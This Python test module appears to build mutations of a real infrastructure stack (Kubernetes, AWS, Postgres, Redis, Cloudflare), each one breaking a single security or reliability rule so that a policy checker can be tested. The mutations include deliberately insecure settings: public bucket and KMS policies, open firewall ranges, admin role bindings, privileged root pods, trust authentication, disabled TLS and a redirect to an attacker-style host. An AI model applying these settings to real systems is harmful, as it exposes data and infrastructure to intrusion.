"""One way to break each rule: a change of that one thing in the real stack."""

import base64
import copy
import dataclasses
import json
import re
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from typing import Any

from stack.resource import Resource, Stack


@dataclass
class Editable:
    """A stack that may be changed. Names are the program's own."""

    resources: dict[str, dict[str, Any]]
    facts: dict[str, Resource]
    protect: dict[str, bool]

    @classmethod
    def of(cls, stack: Stack) -> "Editable":
        names = {resource.name: resource for resource in stack.resources}
        return cls(
            {name: copy.deepcopy(dict(resource.inputs)) for name, resource in names.items()},
            dict(names),
            {name: resource.protect for name, resource in names.items()},
        )

    def stack(self) -> Stack:
        return Stack(
            tuple(
                dataclasses.replace(self.facts[name], inputs=properties, protect=self.protect[name])
                for name, properties in self.resources.items()
            )
        )

    def __getitem__(self, name: str) -> dict[str, Any]:
        return self.resources[name]

    def drop(self, name: str) -> None:
        del self.resources[name]

    def add(self, type_: str, name: str, properties: Mapping[str, Any]) -> None:
        self.resources[name] = dict(properties)
        self.facts[name] = Resource(
            urn=f"urn:pulumi:prod::simone::{type_}::{name}", type=type_, name=name, inputs=properties
        )
        self.protect[name] = True

    def pod(self, name: str) -> dict[str, Any]:
        spec: dict[str, Any] = self[name]["spec"]
        return spec["template"]["spec"]

    def container(self, name: str) -> dict[str, Any]:
        first: dict[str, Any] = self.pod(name)["containers"][0]
        return first

    def replace(self, name: str, file: str, old: str, new: str) -> None:
        part = "data" if "data" in self[name] else "stringData"
        text = self[name][part][file]
        assert old in text, f"{file} of {name} doesn't hold {old!r}"
        self[name][part][file] = text.replace(old, new)

    def parameter(self, name: str, **changed: str) -> None:
        entries = self["postgres-parameters"]["parameters"]
        next(entry for entry in entries if entry["name"] == name).update(changed)


Break = Callable[[Editable], None]
NODES, SENTINELS = "redis-data-nodes", "redis-sentinel-nodes"
INSTANCE, GROUP = "postgres-instance", "postgres-parameters"
BALANCER = "pgbouncer-deployment"


def _setter(name: str, key: str, value: Any) -> Break:
    def breaks(stack: Editable) -> None:
        stack[name][key] = value

    return breaks


def _setter_below(name: str, key: str, value: Any) -> Break:
    """The same inside of a Kubernetes object's spec."""

    def breaks(stack: Editable) -> None:
        stack[name]["spec"][key] = value

    return breaks


def _text(name: str, file: str, old: str, new: str) -> Break:
    return lambda stack: stack.replace(name, file, old, new)


def _policy(name: str, statement: Mapping[str, Any], key: str = "policy") -> Break:
    return _setter(name, key, json.dumps({"Version": "2012-10-17", "Statement": [statement]}))


def _zone_rules(*rules: Mapping[str, Any], phase: str = "http_request_cache_settings") -> dict[str, Any]:
    return {"zoneId": "zone", "kind": "zone", "name": phase, "phase": phase, "rules": list(rules)}


CACHING = {
    "ref": "products",
    "action": "set_cache_settings",
    "expression": 'http.request.uri.path strict wildcard "/api/products*"',
    "actionParameters": {"cache": True},
}
GUARD = {
    "ref": "credentials",
    "action": "set_cache_settings",
    "expression": 'any(http.request.headers.names[*] == "authorization")',
    "actionParameters": {"cache": False},
}
COOKIE = {
    "ref": "cookies",
    "action": "set_cache_control",
    "expression": 'any(http.response.headers.names[*] == "set-cookie")',
    "actionParameters": {"no_store": {"operation": "set"}},
}
RULESET = "cloudflare:index/ruleset:Ruleset"
SETTING = "cloudflare:index/zoneSetting:ZoneSetting"


def _rewriting(headers: Mapping[str, Any]) -> Mapping[str, Any]:
    return {"ref": "headers", "action": "rewrite", "expression": "true", "actionParameters": {"headers": headers}}


KEEP_NOTHING = {
    "ref": "nothing",
    "action": "set_cache_settings",
    "expression": "true",
    "actionParameters": {"cache": False},
}


def with_edge(
    stack: Editable, *request: Mapping[str, Any], response: tuple[Mapping[str, Any], ...] = (COOKIE,)
) -> None:
    """An edge of the test's own, in the place of the environment's."""
    for name in [name for name, fact in stack.facts.items() if fact.type in (RULESET, SETTING)]:
        if name in stack.resources:
            stack.drop(name)
    stack.add(RULESET, "cache", _zone_rules(KEEP_NOTHING, *request))
    stack.add(RULESET, "answers", _zone_rules(*response, phase="http_response_cache_settings"))
    stack.add(SETTING, "minimum", {"settingId": "min_tls_version", "value": "1.2"})
    stack.add(SETTING, "ssl", {"settingId": "ssl", "value": "strict"})
    for name in ("always_use_https", "automatic_https_rewrites", "tls_1_3"):
        stack.add(SETTING, name, {"settingId": name, "value": "on"})
    hsts = {"strict_transport_security": {"enabled": True, "max_age": 31536000}}
    stack.add(SETTING, "hsts", {"settingId": "security_header", "value": hsts})
    dropped = {name: {"operation": "remove"} for name in ("X-Country", "X-Device", "X-Tier")}
    stack.add(RULESET, "trusted", _zone_rules(_rewriting(dropped), phase="http_request_late_transform"))
    set_ = {"operation": "set", "value": "x"}
    protections: dict[str, Any] = dict.fromkeys(("Referrer-Policy", "X-Content-Type-Options", "X-Frame-Options"), set_)
    stack.add(RULESET, "protections", _zone_rules(_rewriting(protections), phase="http_response_headers_transform"))


def _edge_with(**changed: Any) -> Break:
    def breaks(stack: Editable) -> None:
        with_edge(
            stack,
            changed.get("first", CACHING),
            changed.get("last", GUARD),
            response=changed.get("response", (COOKIE,)),
        )

    return breaks


def _zone_setting(name: str, value: str) -> Break:
    def breaks(stack: Editable) -> None:
        with_edge(stack, CACHING, GUARD)
        stack[name]["value"] = value

    return breaks


def _two_sentinels(stack: Editable) -> None:
    stack[SENTINELS]["spec"]["replicas"] = 2


def _affinity(stack: Editable) -> None:
    del stack.pod(NODES)["affinity"]


def _grace(stack: Editable) -> None:
    stack.pod(NODES)["terminationGracePeriodSeconds"] = 10


def _memory(stack: Editable) -> None:
    stack.container(NODES)["resources"]["limits"]["memory"] = "6Gi"


def _suspended(stack: Editable) -> None:
    stack["redis-backup"]["spec"]["suspend"] = True


def _replicas(stack: Editable) -> None:
    stack[BALANCER]["spec"]["replicas"] = 1


def _many_pools(stack: Editable) -> None:
    stack[BALANCER]["spec"]["replicas"] = 100


def _unversioned(stack: Editable) -> None:
    stack["redis-backups-versions"]["versioningConfiguration"]["status"] = "Suspended"


def _plain_bucket(stack: Editable) -> None:
    stack["redis-backups-encryption"]["rules"][0]["applyServerSideEncryptionByDefault"]["sseAlgorithm"] = "AES256"


def _unlabelled_namespace(stack: Editable) -> None:
    stack["network-namespace"]["metadata"]["labels"]["pod-security.kubernetes.io/enforce"] = "baseline"


def _root(stack: Editable) -> None:
    stack.container(BALANCER)["securityContext"]["allowPrivilegeEscalation"] = True


def _writable(stack: Editable) -> None:
    stack.container(BALANCER)["securityContext"]["readOnlyRootFilesystem"] = False


def _unlimited(stack: Editable) -> None:
    del stack.container(BALANCER)["resources"]["limits"]


def _unprobed(stack: Editable) -> None:
    del stack.container(BALANCER)["livenessProbe"]


def _latest(stack: Editable) -> None:
    stack.container(BALANCER)["image"] = "edoburu/pgbouncer:latest"


def _password(stack: Editable) -> None:
    stack.container(BALANCER)["env"].append({"name": "DATABASE_PASSWORD", "value": "correct horse battery"})


def _no_default_deny(stack: Editable) -> None:
    stack.drop("network-default-deny")


def _token(stack: Editable) -> None:
    stack.pod(BALANCER)["automountServiceAccountToken"] = True


def _all_verbs(stack: Editable) -> None:
    stack["monitoring-prometheus-role"]["rules"][0]["verbs"] = ["*"]


def _no_runbook(stack: Editable) -> None:
    rules = stack["monitoring-prometheus-rules"]["data"]
    for file, text in rules.items():
        if "runbook_url:" in text:
            rules[file] = text.replace("runbook_url:", "page:")
            return
    raise AssertionError("no alert has a runbook")


def _unscraped(stack: Editable) -> None:
    stack[BALANCER]["spec"]["template"]["metadata"]["annotations"]["prometheus.io/scrape"] = "false"


def _forgetful(stack: Editable) -> None:
    del stack["monitoring-prometheus-stateful-set"]["spec"]["volumeClaimTemplates"]


def _untagged(stack: Editable) -> None:
    del stack["redis-backups-bucket"]["tags"]["owner"]


def _unlabelled(stack: Editable) -> None:
    del stack[BALANCER]["metadata"]["labels"]["app.kubernetes.io/part-of"]


def _unprotected(stack: Editable) -> None:
    stack.protect[INSTANCE] = False


def _no_budget(stack: Editable) -> None:
    stack.drop("pgbouncer-budget")


def _short_lived(stack: Editable) -> None:
    next(entry for entry in stack["redis-backups-lifecycle"]["rules"] if "expiration" in entry)["expiration"] = {
        "days": 1
    }


def _action(stack: Editable, ref: str) -> dict[str, Any]:
    """The action's parameters of one of the edge's rules."""
    entries = [
        entry
        for name, fact in stack.facts.items()
        if fact.type == RULESET and name in stack.resources
        for entry in stack[name]["rules"]
    ]
    found: dict[str, Any] = next(entry for entry in entries if entry["ref"] == ref)["actionParameters"]
    return found


def _alert(*lines: str) -> Break:
    """One more alert, of these lines."""
    body = "\n".join(f"        {line}" for line in lines)
    text = f"""
groups:
  - name: more
    rules:
      - alert: More
        annotations: {{runbook_url: "https://example.com"}}
        labels: {{severity: page}}
{body}
"""
    return lambda stack: stack["monitoring-prometheus-rules"]["data"].update({"more.yml": text})


BREAKS: Mapping[str, Break] = {
    "redis-authentication": _text("redis-data-config", "redis.conf", "aclfile /etc/redis-secrets/users.acl", ""),
    "redis-least-privilege": _text("redis-node-secrets", "users.acl", "-@admin -@dangerous", "+@all"),
    "redis-not-open": _text("redis-data-config", "redis.conf", "bind ${POD_IP}", "bind 0.0.0.0"),
    "redis-eviction-policy": _text(
        "redis-data-config", "redis.conf", "maxmemory-policy ", "maxmemory-policy noeviction #"
    ),
    "redis-persistence": _text("redis-data-config", "redis.conf", "appendonly yes", "appendonly no"),
    "redis-settings": _text("redis-data-config", "redis.conf", "cluster-enabled no", "cluster-enabled yes"),
    "redis-memory-headroom": _memory,
    "redis-sentinel-quorum": _two_sentinels,
    "redis-spread": _affinity,
    "redis-graceful-stop": _grace,
    "redis-backup": _suspended,
    "postgres-encrypted": _setter(INSTANCE, "storageEncrypted", False),
    "postgres-not-public": _setter(INSTANCE, "publiclyAccessible", True),
    "postgres-multi-az": _setter(INSTANCE, "multiAz", False),
    "postgres-deletion-protection": _setter(INSTANCE, "deletionProtection", False),
    "postgres-final-snapshot": _setter(INSTANCE, "skipFinalSnapshot", True),
    "postgres-backups": _setter(INSTANCE, "backupRetentionPeriod", 1),
    "postgres-tls-forced": lambda stack: stack.parameter("rds.force_ssl", value="0"),
    "postgres-statement-logging": lambda stack: stack.parameter("log_statement", value="all"),
    "postgres-apply-method": lambda stack: stack.parameter("shared_buffers", applyMethod="immediate"),
    "postgres-versions-agree": _setter(GROUP, "family", "postgres17"),
    "postgres-parameters-fit": lambda stack: stack.parameter("shared_buffers", value="1900000"),
    "postgres-log-retention": _setter("postgres-log-postgresql", "retentionInDays", None),
    "pgbouncer-pools-fit": _many_pools,
    "pgbouncer-pool-mode": _text("pgbouncer-config", "pgbouncer.ini", "pool_mode = transaction", "pool_mode = session"),
    "pgbouncer-tls": _text(
        "pgbouncer-config", "pgbouncer.ini", "server_tls_sslmode = verify-full", "server_tls_sslmode = require"
    ),
    "pgbouncer-authentication": _text(
        "pgbouncer-config", "pgbouncer.ini", "auth_type = scram-sha-256", "auth_type = trust"
    ),
    "pgbouncer-settings": _text(
        "pgbouncer-config", "pgbouncer.ini", "stats_users = exporter", "admin_users = exporter"
    ),
    "s3-public-access-blocked": lambda stack: stack.drop("redis-backups-private"),
    "s3-block-complete": _setter("redis-backups-private", "blockPublicPolicy", False),
    "s3-encrypted": _plain_bucket,
    "s3-versioned": _unversioned,
    "s3-tls-only": lambda stack: stack.drop("redis-backups-policy"),
    "s3-policy-closed": _policy(
        "redis-backups-policy", {"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "s3:GetObject"}
    ),
    "security-group-closed": _setter("postgres-firewall-cluster", "cidrIpv4", "0.0.0.0/0"),
    "iam-no-wildcard": _policy("redis-jobs-policy", {"Effect": "Allow", "Action": "s3:*", "Resource": "*"}),
    "iam-trust-limited": _policy(
        "redis-jobs-role", {"Effect": "Allow", "Principal": "*", "Action": "sts:AssumeRole"}, "assumeRolePolicy"
    ),
    "kms-rotation": _setter("redis-backups-key", "enableKeyRotation", False),
    "kubernetes-namespace-restricted": _unlabelled_namespace,
    "kubernetes-pods-restricted": _root,
    "kubernetes-read-only-root": _writable,
    "kubernetes-resources": _unlimited,
    "kubernetes-probes": _unprobed,
    "kubernetes-images-fixed": _latest,
    "kubernetes-no-plain-secrets": _password,
    "kubernetes-network-policies": _no_default_deny,
    "kubernetes-services-closed": _setter_below("gateway-services-door", "loadBalancerSourceRanges", ["0.0.0.0/0"]),
    "kubernetes-replicas": _replicas,
    "kubernetes-disruption-budgets": _no_budget,
    "kubernetes-tokens-off": _setter("pgbouncer-account", "automountServiceAccountToken", True),
    "kubernetes-tokens-wanted": _token,
    "kubernetes-rbac-limited": _all_verbs,
    "edge-expressions": _edge_with(first={**CACHING, "expression": 'http.request.uri.pat eq "/x"'}),
    "edge-personal-routes": _edge_with(first={**CACHING, "expression": 'http.request.uri.path eq "/api/cart"'}),
    "edge-authorization-bypass": _edge_with(first=GUARD, last=CACHING),
    "edge-set-cookie-bypass": _edge_with(response=()),
    "edge-minimum-tls": _zone_setting("minimum", "1.0"),
    "edge-strict-origin-tls": _zone_setting("ssl", "full"),
    "edge-plan-limits": lambda stack: with_edge(
        stack, *({**CACHING, "ref": f"rule-{number}"} for number in range(301)), GUARD
    ),
    "edge-rules-named": _edge_with(first={**CACHING, "ref": "credentials"}),
    "aws-resource-policies-closed": _policy(
        "redis-backups-key", {"Effect": "Allow", "Principal": "*", "Action": "kms:Decrypt", "Resource": "*"}
    ),
    "s3-owner-enforced": _setter("redis-backups-ownership", "rule", {"objectOwnership": "ObjectWriter"}),
    "s3-kept": _setter("redis-backups-bucket", "forceDestroy", True),
    "s3-backups-kept": _short_lived,
    "postgres-placed": _setter(INSTANCE, "dbSubnetGroupName", "default"),
    "postgres-changed-with-care": _setter(INSTANCE, "applyImmediately", True),
    "kubernetes-no-ingress": lambda stack: stack.add(
        "kubernetes:networking.k8s.io/v1:Ingress", "more", {"metadata": {"name": "more"}, "spec": {"rules": [{}]}}
    ),
    "kubernetes-autoscalers-fit": _setter_below("api-autoscaler", "maxReplicas", 1),
    "kubernetes-quota-fits": _setter_below("network-quota", "hard", {"requests.memory": "1Gi"}),
    "kubernetes-volumes-kept": _setter_below(NODES, "persistentVolumeClaimRetentionPolicy", {"whenDeleted": "Delete"}),
    "kubernetes-schedules": _setter_below("redis-backup", "schedule", "every night"),
    "gateway-configuration-read": _text("gateway-config", "nginx.conf", "daemon off;", "daemon off"),
    "gateway-hardened": _text("gateway-config", "nginx.conf", "ssl_verify_client on", "ssl_verify_client off"),
    "gateway-keeps-nothing-personal": _text(
        "gateway-config", "nginx.conf", "location /api/ {", "location /api/ {\nproxy_cache shield;"
    ),
    "gateway-limits": _text("gateway-config", "nginx.conf", "limit_req zone=requests burst=200 nodelay;", ""),
    "edge-lifetimes": lambda stack: _action(stack, "lifetime-home")["maxAge"].update(value=31536000),
    "edge-keys-tell-apart": lambda stack: _action(stack, "keep-api-search")["cacheKey"]["customKey"].update(
        queryString={"exclude": {"all": True}}
    ),
    "edge-phases": lambda stack: stack.add(RULESET, "more", _zone_rules(phase="http_config_settings")),
    "edge-redirects-home": lambda stack: _action(stack, "other-names")["fromValue"].update(
        targetUrl={"value": "https://evil.example.com"}
    ),
    "edge-headers": lambda stack: stack["edge-request-late-transform"]["rules"].pop(0),
    "edge-switched-on": _setter("edge-setting-always-use-https", "value", "off"),
    "edge-guarded": _setter("edge-origin-pulls", "enabled", False),
    "edge-proxied": _setter("edge-balancer", "proxied", False),
    "edge-no-page-rules": lambda stack: stack.add(
        "cloudflare:index/pageRule:PageRule", "more", {"target": "www.simone-webshop.com/*", "actions": {}}
    ),
    "alerts-can-fire": _alert('expr: "up == 0 and up == 1"'),
    "alerts-reach-somebody": _text("monitoring-alertmanager-config", "alertmanager.yml", "- name: page\n", ""),
    "prometheus-watches": _text("monitoring-prometheus-config", "prometheus.yml", "regex: redis|", "regex: "),
    "gateway-runs-its-own": _text("gateway-config", "nginx.conf", "return 421;", "root /etc;"),
    "kubernetes-jobs-end": _setter_below("redis-backup", "concurrencyPolicy", "Allow"),
    "kubernetes-priorities": lambda stack: stack.add(
        "kubernetes:scheduling.k8s.io/v1:PriorityClass", "more", {"value": 1, "globalDefault": True}
    ),
    "kubernetes-own-namespace": lambda stack: stack["api-service"]["metadata"].update(namespace="kube-system"),
    "kubernetes-no-lasting-tokens": _setter("gateway-tls", "type", "kubernetes.io/service-account-token"),
    "exporters-are-there": lambda stack: stack.drop("monitoring-postgres-exporter-deployment"),
    "types-are-judged": lambda stack: stack.add("aws:lambda/function:Function", "more", {"runtime": "python3.12"}),
    "no-plain-secrets": _setter("postgres-firewall", "description", "postgres://app:hunter2hunter2@db/simone"),
    "names-are-unique": lambda stack: stack.add(
        "kubernetes:core/v1:Service", "more", {"metadata": {"name": "api", "namespace": "simone"}}
    ),
    "alerts-have-runbooks": _no_runbook,
    "servers-are-scraped": _unscraped,
    "prometheus-keeps-data": _forgetful,
    "stateful-protected": _unprotected,
    "aws-tags": _untagged,
    "kubernetes-labels": _unlabelled,
}


def _argument(*arguments: str) -> Break:
    return lambda stack: stack.container(BALANCER).update(args=[*arguments])


def _in_a_config_map(line: str) -> Break:
    return lambda stack: stack["pgbouncer-config"]["data"].update({"more.conf": line})


def _attached(stack: Editable) -> None:
    given = {"role": "x", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}
    stack.add("aws:iam/rolePolicyAttachment:RolePolicyAttachment", "more", given)


def _cluster_admin(stack: Editable) -> None:
    given = {"metadata": {"name": "more"}, "roleRef": {"kind": "ClusterRole", "name": "cluster-admin"}}
    stack.add("kubernetes:rbac.authorization.k8s.io/v1:ClusterRoleBinding", "more", given)


def _capability(stack: Editable) -> None:
    stack.container(BALANCER)["securityContext"]["capabilities"]["add"] = ["SYS_ADMIN"]


def _host_port(stack: Editable) -> None:
    stack.container(BALANCER)["ports"][0]["hostPort"] = 6432


def _sysctl(stack: Editable) -> None:
    stack.pod(BALANCER)["securityContext"]["sysctls"] = [{"name": "kernel.msgmax", "value": "1"}]


def _scaled_to_one(stack: Editable) -> None:
    stack["api-autoscaler"]["spec"]["minReplicas"] = 1


def _caching_too(expression: str) -> Break:
    """One more rule in the edge as it is, behind the others that cache."""

    def breaks(stack: Editable) -> None:
        stack["edge-request-cache-settings"]["rules"].insert(-1, {**CACHING, "ref": "more", "expression": expression})

    return breaks


def _without_the_last_rule(name: str) -> Break:
    return lambda stack: stack[name]["rules"].pop()


def _new(type_: str, **inputs: Any) -> Break:
    return lambda stack: stack.add(type_, "more", inputs)


def _identity(**statement: Any) -> Break:
    """An inline policy of the jobs' role with this statement."""
    return _policy("redis-jobs-policy", {"Effect": "Allow", **statement})


def _trust(**condition: Any) -> Break:
    statement = {
        "Effect": "Allow",
        "Principal": {"Federated": "arn:aws:iam::123456789012:oidc-provider/oidc"},
        "Action": "sts:AssumeRoleWithWebIdentity",
        "Condition": condition,
    }
    return _policy("redis-jobs-role", statement, "assumeRolePolicy")


def _role(**entry: list[str]) -> Break:
    given = {"apiGroups": [""], "resources": ["pods"], "verbs": ["get"], **entry}
    return _new("kubernetes:rbac.authorization.k8s.io/v1:ClusterRole", metadata={"name": "more"}, rules=[given])


def _binding(kind: str, name: str) -> Break:
    return _new(
        "kubernetes:rbac.authorization.k8s.io/v1:ClusterRoleBinding",
        metadata={"name": "more"},
        roleRef={"kind": "ClusterRole", "name": "view"},
        subjects=[{"kind": kind, "name": name}],
    )


def _peer(name: str, **entry: Any) -> Break:
    """One more entry in a network policy: `ingress` or `egress`."""

    def breaks(stack: Editable) -> None:
        for side, added in entry.items():
            stack[name]["spec"].setdefault(side, []).append(added)

    return breaks


_HARMFUL = {
    "containers": [
        {
            "name": "more",
            "image": "docker.io/library/busybox:1.36",
            "securityContext": {"privileged": True, "runAsUser": 0},
        }
    ]
}


def _pod(type_: str, *path: str) -> Break:
    """A privileged pod, run by a resource of this type that holds its spec at this path."""
    spec: dict[str, Any] = _HARMFUL
    for key in reversed(path):
        spec = {key: spec}
    return _new(f"kubernetes:{type_}", metadata={"name": "more"}, **spec)


def _more_containers(kind: str) -> Break:
    return lambda stack: stack.pod(BALANCER).update({kind: _HARMFUL["containers"]})


def _acl(*rules: str) -> Break:
    user = " ".join(["user more on >0123456789abcdef", *rules])
    return lambda stack: stack.replace("redis-node-secrets", "users.acl", "user default", f"{user}\nuser default")


def _redis(line: str) -> Break:
    """One more line at the end of a redis.conf, which is the one that counts."""

    def breaks(stack: Editable) -> None:
        stack["redis-data-config"]["data"]["redis.conf"] += f"\n{line}\n"

    return breaks


def _sentinel(line: str) -> Break:
    """One more line at the end of sentinel.conf."""

    def breaks(stack: Editable) -> None:
        stack["redis-sentinel-config"]["data"]["sentinel.conf"] += f"\n{line}\n"

    return breaks


def _nginx(old: str, new: str) -> Break:
    """Whatever stands so in the gateway's nginx.conf, written otherwise."""
    return _text("gateway-config", "nginx.conf", old, new)


def _location(text: str) -> Break:
    """One more location in the gateway's server for visitors."""
    last = "# Everything that the policy doesn't call public"
    return _nginx(last, f"{text}\n        {last}")


def _pgbouncer(line: str) -> Break:
    """One more line at the end of pgbouncer.ini."""

    def breaks(stack: Editable) -> None:
        stack["pgbouncer-config"]["data"]["pgbouncer.ini"] += f"\n{line}\n"

    return breaks


def _recorded(*lines: str) -> Break:
    """One more file of rules, with these lines in its group."""
    text = "\n".join(f"    {line}" for line in lines)
    return lambda stack: stack["monitoring-prometheus-rules"]["data"].update(
        {"more.yml": f"groups:\n  - name: more\n{text}\n"}
    )


def _scheduled(**changed: Any) -> Break:
    return lambda stack: stack["redis-backup"]["spec"].update(changed)


def _parameter(name: str, value: str, method: str = "immediate") -> Break:
    """A parameter set, in the place of what the group says."""

    def breaks(stack: Editable) -> None:
        entries = [entry for entry in stack[GROUP]["parameters"] if entry["name"] != name]
        stack[GROUP]["parameters"] = [*entries, {"name": name, "value": value, "applyMethod": method}]

    return breaks


def _door(*ranges: str) -> Break:
    return _setter_below("gateway-services-door", "loadBalancerSourceRanges", list(ranges))


def _annotation(text: str) -> Break:
    return lambda stack: stack["network-namespace"]["metadata"].setdefault("annotations", {}).update(note=text)


def _never_matches(stack: Editable) -> None:
    """The guard for credentials, made one that no request meets."""
    guard = stack["edge-request-cache-settings"]["rules"][-1]
    guard["expression"] = f'http.request.method eq "NONE" and ({guard["expression"]})'


def _all_sentinels(stack: Editable) -> None:
    text = stack["redis-sentinel-config"]["data"]["sentinel.conf"]
    stack["redis-sentinel-config"]["data"]["sentinel.conf"] = re.sub(
        r"(?m)^(sentinel monitor \S+ \S+ \S+) \d+", r"\1 3", text
    )


def _expression(text: str) -> Break:
    return _recorded("rules:", "  - alert: More", f"    expr: {json.dumps(text)}", "    labels: {severity: page}")


def _alertmanager(old: str, new: str) -> Break:
    return _text("monitoring-alertmanager-config", "alertmanager.yml", old, new)


def _prometheus(old: str, new: str) -> Break:
    return _text("monitoring-prometheus-config", "prometheus.yml", old, new)


def _inhibited(source: str, target: str) -> Break:
    rule = f"inhibit_rules:\n- source_matchers: ['{source}']\n  target_matchers: ['{target}']"
    return _alertmanager("inhibit_rules:", rule)


def _first_route(matcher: str, receiver: str) -> Break:
    return _alertmanager("  routes:\n", f"  routes:\n  - matchers: ['{matcher}']\n    receiver: {receiver}\n")


def _lua(file: str, line: str) -> Break:
    def breaks(stack: Editable) -> None:
        stack["gateway-config"]["data"][file] += f"\n{line}\n"

    return breaks


def _run(name: str, **changed: Any) -> Break:
    """What a CronJob runs, with other limits."""
    return lambda stack: stack[name]["spec"]["jobTemplate"]["spec"].update(changed)


def _asking(**resources: Mapping[str, str]) -> Break:
    return lambda stack: stack.container(BALANCER)["resources"].update(resources)


def _scaler(kind: str, name: str) -> Break:
    return lambda stack: stack.add(
        "kubernetes:autoscaling/v2:HorizontalPodAutoscaler",
        "more",
        {
            "metadata": {"name": "more", "namespace": "simone"},
            "spec": {"minReplicas": 2, "maxReplicas": 3, "scaleTargetRef": {"kind": kind, "name": name}},
        },
    )


def _copied(name: str) -> Break:
    return lambda stack: stack.add(stack.facts[name].type, "more", copy.deepcopy(stack[name]))


def _statement(name: str, number: int, key: str = "policy", **changed: Any) -> Break:
    """A statement of a policy document, changed; what is None goes."""

    def breaks(stack: Editable) -> None:
        document = json.loads(stack[name][key])
        document["Statement"][number] |= changed
        kept = {part: value for part, value in document["Statement"][number].items() if value is not None}
        document["Statement"][number] = kept
        stack[name][key] = json.dumps(document)

    return breaks


NEVER_OR_ALWAYS = (
    "vector(1)",
    "vector(0)",
    "up",
    "up >= 0",
    "up <= 1",
    "rate(x[5m]) >= 0",
    "x == x",
    "x > 5 or vector(0)",
    "absent(up == 3)",
    "absent(vector(1))",
    "count(up) >= 0",
    "1",
    "time() > 0",
    "x and y",
    "sum(x) or vector(0)",
    "up offset 10y > 0",
    "up offset -1h == 0",
    "up @ 0 == 0",
    "rate(x[5m] offset 5y) > 3",
    "max_over_time(up[5m:1m] offset 1y) == 0",
    "histogram_quantile(0.95, rate(x_bucket[5m])) < 0",
    "histogram_quantile(95, rate(x_bucket[5m])) > 3",
    "quantile(95, x) > 3",
    "quantile_over_time(95, x[5m]) > 3",
    "x - x > 0",
    "x / x > 1",
    "x * 0 > 1",
    "x % 10 > 20",
    "x ^ 2 < 0",
    "clamp(x, 0, 1) > 2",
    "ceil(up) > 1",
    "sgn(x) > 1",
    "hour() > 24",
    "month() > 12",
    "day_of_month() > 31",
    "days_in_month() < 28",
    "time() < 100",
    "count_over_time(x[5m]) < 1",
    "(x > bool 5) + (y > bool 3) > 2",
    "up / 2 > 0.6",
    "up * 100 > 100",
    "1 - up > 1",
    "avg(up) > 1",
    "topk(0, up) > 0",
    'x{job="a"} and y{job="b"}',
    'sum(rate(a[5m])) / rate(b{job="x"}[5m]) > 1',
    'up{job="a",job=~"b.*"} == 0',
    'up{job="a",job!="a"} == 0',
    'x{job="a"} > y{job="b"}',
    'sum by (pod) (x) > max by (job) (y{job="b"})',
    "exp(x) < 0",
    "-abs(x) > 0",
    "abs(x) * -1 > 1",
    "present_over_time(x[5m]) == 0",
    "year() < 2020",
    "bottomk(-1, up) > 0",
    "x unless x",
    "up == 0 and up == 1",
    "avg_over_time(up[5m]) > 1",
    "min(up) < 0",
    "rate(x[5m]) * 100 < 0",
    "increase(x[1h]) / 3600 < 0",
    "scalar(up) > 2",
    "changes(x[5m]) + resets(x[5m]) < 0",
    "day_of_week() == 7",
    "minute() >= 60",
    "sum(up) by (job) < 0",
    "stddev(x) < 0",
    "0 > up",
    "up == 0.5 and up == 1",
    "x > +Inf",
    "x == NaN",
    'x{a="1"} - on(a) y{a="2"} > 0',
    "(up == 0) * 0 > 0",
    'label_replace(up, "a", "b", "c", "d") > 1',
    "count(up) / count(up) > 1",
    "sum(x) - sum(x) != 0",
    "up ^ 2 > 1",
    "no:such:record > 0",
)
"""Alerts that can't fire, or always do, whatever is measured."""


NARROWED: Mapping[str, Mapping[str, Any]] = {
    "for writing alone": {"Action": "s3:PutObject"},
    "not of what is in it": {"Resource": ["arn:aws:s3:::simone-prod-redis-backups"]},
    "for one account": {"Principal": {"AWS": "210987654321"}},
    "for one network": {
        "Condition": {"Bool": {"aws:SecureTransport": "false"}, "IpAddress": {"aws:SourceIp": "203.0.113.0/24"}}
    },
}
"""What a bucket's refusal of requests without TLS is about alone."""


OTHER_BREAKS: tuple[tuple[str, str, Break], ...] = (
    ("kubernetes-no-plain-secrets", "option", _argument("--password=hunter2-hunter2")),
    ("kubernetes-no-plain-secrets", "option and value", _argument("--auth-token", "hunter2-hunter2")),
    ("kubernetes-no-plain-secrets", "address", _argument("postgres://app:hunter2-hunter2@db/simone")),
    ("kubernetes-no-plain-secrets", "line", _in_a_config_map("password = hunter2-hunter2")),
    ("kubernetes-no-plain-secrets", "YAML", _in_a_config_map('  bearer_auth_token: "hunter2-hunter2"')),
    ("kubernetes-no-plain-secrets", "key", _in_a_config_map("-----BEGIN EC PRIVATE KEY-----")),
    ("kubernetes-pods-restricted", "capability", _capability),
    ("kubernetes-pods-restricted", "node's port", _host_port),
    ("kubernetes-pods-restricted", "kernel setting", _sysctl),
    ("kubernetes-network-policies", "everybody", _setter_below("network-api", "ingress", [{}])),
    ("kubernetes-network-policies", "no policy", lambda stack: stack.drop("network-api")),
    ("kubernetes-services-closed", "no ranges", _setter_below("api-service", "type", "LoadBalancer")),
    ("kubernetes-services-closed", "node's port", _setter_below("api-service", "type", "NodePort")),
    ("kubernetes-replicas", "autoscaler", _scaled_to_one),
    ("kubernetes-disruption-budgets", "all", _setter_below("redis-data-budget", "maxUnavailable", 2)),
    ("kubernetes-rbac-limited", "cluster-admin", _cluster_admin),
    ("iam-no-wildcard", "attached", _attached),
    (
        "iam-no-wildcard",
        "list",
        _policy("redis-jobs-policy", {"Effect": "Allow", "Action": ["s3:*"], "Resource": ["x"]}),
    ),
    ("security-group-closed", "IPv6", _setter("postgres-firewall-cluster", "cidrIpv6", "::/0")),
    ("postgres-parameters-fit", "work_mem", lambda stack: stack.parameter("work_mem", value="20971520")),
    ("redis-persistence", "no snapshots", _text("redis-data-config", "redis.conf", "save 3600 1", 'save ""')),
    ("edge-personal-routes", "everything", _caching_too("true")),
    ("edge-personal-routes", "the API", _caching_too('http.request.uri.path wildcard "/api/*"')),
    ("edge-personal-routes", "not understood", _caching_too('starts_with(http.request.uri.path, "/x")')),
    ("edge-expressions", "another type", _caching_too("http.request.method eq 1")),
    ("edge-expressions", "an array without any()", _caching_too('http.request.headers.names[*] eq "a"')),
    ("edge-expressions", "an answer's field before the answer", _caching_too("http.response.code eq 200")),
    ("edge-expressions", "unfinished", _caching_too('http.request.uri.path eq "/x" and')),
    ("edge-expressions", "a regular expression with look-ahead", _caching_too('http.host matches "a(?!b)"')),
    ("edge-authorization-bypass", "no guard", _without_the_last_rule("edge-request-cache-settings")),
